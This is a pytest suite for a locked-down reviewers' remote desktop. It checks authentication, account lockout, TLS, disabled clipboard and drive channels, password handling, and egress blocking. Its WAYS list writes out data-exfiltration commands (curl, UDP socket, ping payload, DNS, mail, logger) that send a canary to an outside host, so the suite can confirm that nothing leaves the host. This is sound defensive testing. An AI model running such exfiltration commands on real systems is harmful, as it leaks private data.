"""The remote desktop of reviewers, with a real client: who gets in, what they can do, and that nothing leaves."""

from __future__ import annotations

import os
import shlex
import ssl
import subprocess
import time
from pathlib import Path

import pytest

from sandbox.fixtures import quiet_timer
from sandbox.network import INTERNET
from tests.hosts import remote
from tests.hosts.managing import history, manage, refused, rests, untouched
from tests.hosts.programs import on_terminal, wait_until
from tests.hosts.remote import judged, looking, negotiated, speaks_tls


pytestmark = pytest.mark.share("desktop")

PASSWORD = "Tamper7+Kettle_Orbit"
OTHER = "Wagon4+Thimble=Fern"
WORK = "/srv/medium_privacy/workspaces"
SHOTS = Path(os.environ.get("SCREENSHOTS", "/tmp/backend-screenshots"))
CANARY = "canary7f3e9b"


@pytest.fixture(scope="module")
def host(shared_warm_host):
    """As after a first run, with something of a job's to look at, and a reviewer's password."""
    remote.ensure_client()
    host = shared_warm_host("emis", shape=[quiet_timer])
    assert manage(host, backend="emis").returncode in (0, 4)
    host.run("chpasswd", stdin=f"ada:{OTHER}\nrita:{OTHER}\nroot:{OTHER}\n")
    host.run("backend people password --ask gus", stdin=f"{PASSWORD}\n")
    host.run(
        f"runuser -u opensafely -- sh -c 'umask 002; mkdir {WORK}/study; cd {WORK}/study; "
        'echo first line >notes.txt; printf "sex,n\\nF,31\\nM,28\\n" >counts.csv\''
    )
    return host


def sessions_of(host, name="gus"):
    lines = host.run("backend people sessions").stdout.splitlines()
    return [line for line in lines if line.split()[0] == name]


def end_all(host):
    host.run("backend people sessions --end")
    assert sessions_of(host) == []


def as_gus(command):
    """A process of the reviewer's, in the display of their session where it needs one."""
    inside = f"DISPLAY=:10 XAUTHORITY=/home/gus/.Xauthority {command}"
    return (
        f"setpriv --reuid gus --regid gus --init-groups -- sh -c {shlex.quote(inside)}"
    )


def desktop_is_up(host):
    names = host.run("ps -u gus -o comm=", check=False).stdout.split()
    return {"xfdesktop", "xfce4-panel", "thunar"} <= {n.lower() for n in names}


# ---- who gets in


def test_a_reviewer_reads_edits_and_saves_what_a_job_wrote(host):
    """As a person does it: keys at the client. The screenshots are to be looked at."""
    SHOTS.mkdir(exist_ok=True)
    with looking(host, "gus", PASSWORD) as client:
        wait_until(lambda: desktop_is_up(host), 60)
        time.sleep(5)
        client.shot(SHOTS / "desktop.png")
        for name in ("study", "notes"):
            client.type(name)
            client.do("key", "Return")
            time.sleep(2)
        wait_until(lambda: host.run("pgrep -u gus mousepad", check=False).stdout, 30)
        time.sleep(3)
        client.do("key", "ctrl+End")
        client.type("reviewed")
        client.do("key", "ctrl+s")
        notes = f"{WORK}/study/notes.txt"
        wait_until(lambda: "reviewed" in host.read(notes), 30)
        client.shot(SHOTS / "edited.png")
        seen = host.run(as_gus("ls /srv/high_privacy"), check=False)
        assert "Permission denied" in seen.stderr
        logins = host.run(
            "for p in $(pgrep -u gus thunar); do cat /proc/$p/loginuid; done"
        )
        assert host.run("id -u gus").stdout.strip() in logins.stdout
    assert len(sessions_of(host)) == 1, "it goes on without a client"


def test_sessions_are_counted_come_back_to_and_ended(host):
    first = sessions_of(host)
    assert len(first) == 1
    assert "desktop     1 open" in host.run("backend status", check=False).stdout
    assert judged(host, "gus", PASSWORD)
    assert sessions_of(host) == first, "the same session again"
    end_all(host)
    assert host.run("pgrep -u gus", check=False).stdout == ""
    ended = history(host)[-1]
    assert (ended["event"], ended["subject"]) == ("session ended", "gus")
    assert judged(host, "gus", PASSWORD)
    end_all(host)


@pytest.mark.parametrize(
    ("who", "password", "given", "back"),
    [
        ("gus", "wrong", "", ""),
        ("gus", "", "", ""),
        ("rita", OTHER, "", ""),
        ("ada", OTHER, "", ""),
        ("root", OTHER, "", ""),
        ("gus", PASSWORD, "chage -E 2020-01-01 gus", "chage -E -1 gus"),
        ("gus", PASSWORD, "usermod -L gus", "usermod -U gus"),
        ("gus", PASSWORD, "gpasswd -d gus reviewers", "gpasswd -a gus reviewers"),
    ],
    ids=[
        "wrong",
        "empty",
        "researcher",
        "developer",
        "root",
        "expired",
        "locked",
        "off the group",
    ],
)
def test_nobody_else_gets_in(host, who, password, given, back):
    host.run(given or "true")
    try:
        assert not judged(host, who, password)
    finally:
        host.run(f"{back or 'true'}; faillock --user gus --reset")


def test_a_missing_group_is_not_everyone(host):
    host.run("groupmod -n elsewhere reviewers")
    try:
        assert not judged(host, "gus", PASSWORD)
        assert not judged(host, "rita", OTHER)
    finally:
        host.run("groupmod -n reviewers elsewhere; faillock --user gus --reset")
    assert judged(host, "gus", PASSWORD)
    end_all(host)


def test_guessing_locks_passwords_and_not_keys(host):
    """For ten minutes; nobody can lock a developer from the login screen, nor root at all."""
    check = "xrdp-sesrun -s ::1 -p {} {} 2>&1"
    for name in ("gus", "ada"):
        for _ in range(6):
            host.run(check.format("wrong", name), check=False)
    assert not judged(host, "gus", PASSWORD)
    found = host.run(
        "faillock --user gus; faillock --user ada; faillock --user root"
    ).stdout
    assert found.count(" V") >= 5
    assert found.partition("ada:")[2].count(" V") == 0
    key = host.people["ada"].key
    assert host.ssh("ada", key, "id -un").stdout == "ada\n"
    host.run("faillock --user gus --reset")
    assert judged(host, "gus", PASSWORD)
    end_all(host)


def test_wrong_passwords_for_sudo_lock_sudo_and_not_the_login(host):
    key = host.people["ada"].key
    asks = "sudo -k; sudo -S -p '' id -un"
    for _ in range(6):
        host.ssh("ada", key, asks, False, "wrong\n")
    assert host.ssh("ada", key, asks, False, f"{OTHER}\n").stdout == ""
    host.run("faillock --user ada --reset")
    assert host.ssh("ada", key, asks, False, f"{OTHER}\n").stdout == "root\n"


# ---- what the client may ask for


def test_tls_alone_and_no_older_one(host):
    assert negotiated(host.address, 0)[0] != 2  # classic security
    assert negotiated(host.address, 2)[0] != 2  # NLA
    assert speaks_tls(host.address, ssl.TLSVersion.TLSv1_2)
    assert speaks_tls(host.address, ssl.TLSVersion.TLSv1_3)
    assert not speaks_tls(host.address, ssl.TLSVersion.TLSv1)
    assert not speaks_tls(host.address, ssl.TLSVersion.TLSv1_1)
    key = host.run("stat -c '%a %U %G' /etc/xrdp/opensafely.key").stdout
    assert key == "640 root xrdp\n"


READ = (
    "import gi; gi.require_version('Gtk','3.0'); from gi.repository import Gtk, Gdk; \
print(Gtk.Clipboard.get(Gdk.SELECTION_CLIPBOARD).wait_for_text())"
)
OWN = (
    f"import gi; gi.require_version('Gtk','3.0'); from gi.repository import Gtk, Gdk, GLib; \
Gtk.Clipboard.get(Gdk.SELECTION_CLIPBOARD).set_text('{CANARY}-out', -1); \
GLib.timeout_add_seconds(20, Gtk.main_quit); Gtk.main()"
)


def test_channels_are_dead_and_another_shell_is_ignored(host, tmp_path):
    (tmp_path / f"{CANARY}-drive").write_text("x")
    asked = (
        *("/sec:tls", "+clipboard", f"/drive:out,{tmp_path}", "/sound:sys:fake"),
        *("/printer:fake", "/shell:xfce4-terminal", "/dynamic-resolution"),
    )
    with looking(host, "gus", PASSWORD, *asked) as client:
        wait_until(lambda: desktop_is_up(host), 60)
        clip = ["xclip", "-selection", "clipboard"]
        subprocess.run(
            clip,
            input=f"{CANARY}-in".encode(),
            env=client.env,
            check=True,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        time.sleep(3)
        inside = host.run(as_gus(f"timeout 20 python3 -c {shlex.quote(READ)}")).stdout
        assert CANARY not in inside
        host.run(as_gus(f"timeout 25 python3 -c {shlex.quote(OWN)} >/dev/null 2>&1 &"))
        time.sleep(4)
        done = subprocess.run(
            [*clip, "-o"], env=client.env, capture_output=True, timeout=20, check=False
        )
        assert f"{CANARY}-in" in done.stdout.decode(), (
            "the client's own is still its own"
        )
        assert f"{CANARY}-out" not in done.stdout.decode()
        mounts = host.run(
            "grep -c thinclient /proc/mounts; ls -A /home/gus", check=False
        ).stdout
        assert mounts.startswith("0\n")
        assert (
            f"{CANARY}-drive"
            not in host.run(
                "find /home/gus /run/user -xdev 2>/dev/null", check=False
            ).stdout
        )
        assert "xfce4-session" in host.run("ps -u gus -o comm=").stdout
    end_all(host)


# ---- nothing is carried out

WAYS = (
    f"curl -sm3 http://{INTERNET}/{CANARY}",
    f"curl -sm3 http://[fd77::1]/{CANARY}",
    f"curl -sm3 http://127.0.0.1:9/{CANARY}",
    f"ssh -o ConnectTimeout=2 -o BatchMode=yes {CANARY}@{INTERNET}",
    f"getent hosts {CANARY}.example.org",
    f"python3 -c \"import socket; s=socket.socket(2,2); s.sendto(b'{CANARY}',('{INTERNET}',53))\"",
    f"ping -c1 -W1 -p {CANARY.encode().hex()[:24]} {INTERNET}",
    f"resolvectl query {CANARY}.example.org",
    f"busctl call org.freedesktop.resolve1 /org/freedesktop/resolve1 org.freedesktop.resolve1.Manager ResolveHostname isit 0 {CANARY}.example.org 0 0",
    f"logger -n {INTERNET} {CANARY}",
    f"echo {CANARY} | mail -s {CANARY} root@{INTERNET}",
    f"unshare -Ur curl -sm3 http://{INTERNET}/{CANARY}",
)


def captured(host, commands):
    """How many packets of any interface have the canary in them, while these run."""
    host.run(
        "(timeout 60 tcpdump -i any -U -w /tmp/all.pcap >/dev/null 2>&1 &) ; sleep 1.5"
    )
    for command in commands:
        host.run(command, check=False)
    host.run("sleep 1; pkill tcpdump; sleep 0.3", check=False)
    found = host.run(f"grep -aoc -e {CANARY} /tmp/all.pcap", check=False).stdout
    return int(found)


def test_nothing_is_carried_out(host):
    assert captured(host, [WAYS[0], WAYS[4]]) > 0, "root's is seen: the capture works"
    assert captured(host, [as_gus(way) for way in WAYS]) == 0
    for unit in ("systemd-resolved.service", "avahi-daemon.service", "cups.socket"):
        assert "masked" in host.run(f"systemctl is-enabled {unit}", check=False).stdout


def test_it_is_all_there_after_a_reboot(host):
    host.reboot()
    assert captured(host, [as_gus(WAYS[0]), as_gus(WAYS[5])]) == 0
    assert host.run("nft list set inet opensafely reviewers").stdout.count("elements")
    assert judged(host, "gus", PASSWORD)
    end_all(host)


# ---- what is declared


def test_a_restart_waits_until_nobody_is_there(host):
    """And what a package's upgrade puts back is seen by the next plan."""
    assert judged(host, "gus", PASSWORD)
    main = "systemctl show --property=MainPID xrdp"
    before = host.run(main).stdout
    host.run("sed -i 's/cliprdr=false/cliprdr=true/' /etc/xrdp/xrdp.ini")
    assert manage(host, "plan --offline", backend="emis").returncode == 3
    assert manage(host, "--offline", backend="emis").returncode in (0, 4)
    assert host.run(main).stdout == before
    assert "xrdp.service" in host.run("backend status", check=False).stdout
    end_all(host)
    assert manage(host, "--offline", backend="emis").returncode in (0, 4)
    assert host.run(main).stdout != before
    assert judged(host, "gus", PASSWORD)
    end_all(host)
    assert rests(host, "emis", words="--offline")


# ---- passwords


def test_a_password_is_made_shown_once_and_kept_by_later_runs(host):
    with on_terminal(host, "backend people password gus") as terminal:
        assert terminal.end() == 0
    (line,) = [x for x in terminal.seen.splitlines() if x.startswith("    ")]
    made = line.strip()
    everywhere = host.run(
        f"grep -rlF -e {made} /var/log /etc /var/lib/opensafely /run/log 2>/dev/null; "
        f"journalctl --no-pager | grep -cF -e {made}",
        check=False,
    ).stdout
    assert everywhere == "0\n"
    event = history(host)[-1]
    assert (event["event"], event["subject"], event["who"]) == (
        "password given",
        "gus",
        "root",
    )
    assert made not in str(event)
    before = host.run("getent shadow gus").stdout
    assert rests(host, "emis", words="--offline")
    assert host.run("getent shadow gus").stdout == before
    assert not judged(host, "gus", PASSWORD)
    host.run("faillock --user gus --reset")
    assert judged(host, "gus", made)
    end_all(host)


@pytest.mark.parametrize(
    "weak", ["short7+A", "nocapitals7+here_at_all", "NoDigits+Here_At-All"]
)
def test_weak_passwords_are_refused(host, weak):
    before = host.run("getent shadow gus").stdout
    done = host.run("backend people password --ask gus", check=False, stdin=f"{weak}\n")
    assert (done.returncode, "BAD PASSWORD" in done.stderr) == (1, True)
    assert host.run("getent shadow gus").stdout == before


def test_the_reminder_goes_with_a_password_of_ones_own(host):
    host.run("backend people password --ask gus", stdin=f"{PASSWORD}\n")
    remind = as_gus("HOME=/home/gus /etc/xdg/opensafely/remind")
    assert "Somebody else knows your password" in host.run(remind).stdout
    with on_terminal(
        host, as_gus("HOME=/home/gus /etc/xdg/opensafely/change-password")
    ) as own:
        own.until("urrent password:")
        own.type(f"{PASSWORD}\n")
        own.until("New password:")
        own.type("weak\n")
        own.until("BAD PASSWORD")
        own.type("Plum7-Kettle_Orbit\n")
        own.until("etype new password:")
        own.type("Plum7-Kettle_Orbit\n")
        own.until("Press Enter")
        own.type("\n")
        own.end()
    assert host.run(remind).stdout == ""
    host.run("chage -E $(date -u -d '10 days' +%F) gus")
    assert "Your access ends in 10 days" in host.run(remind).stdout
    host.run("chage -E -1 gus")


@pytest.mark.parametrize(
    ("words", "why"),
    [("ada", "ada may use sudo"), ("rita", "no reviewer"), ("root", "no reviewer")],
)
def test_who_is_given_none(host, words, why):
    with untouched(host):
        refused(host.run(f"backend people password {words}", check=False), why)


def test_a_leaver_is_out(host):
    """With the session they had open, and the password."""
    host.run("backend people password --ask gus", stdin=f"{PASSWORD}\n")
    assert judged(host, "gus", PASSWORD)
    host.run("sed -i /^gus/d /srv/backend-server/emis/reviewers")
    assert manage(host, "--yes --offline", backend="emis").returncode in (0, 4)
    assert host.run("pgrep -u gus", check=False).stdout == ""
    assert host.run("getent shadow gus").stdout.split(":")[1] == "!"
    assert not judged(host, "gus", PASSWORD)
    elements = host.run("nft list set inet opensafely reviewers").stdout
    assert "elements" not in elements
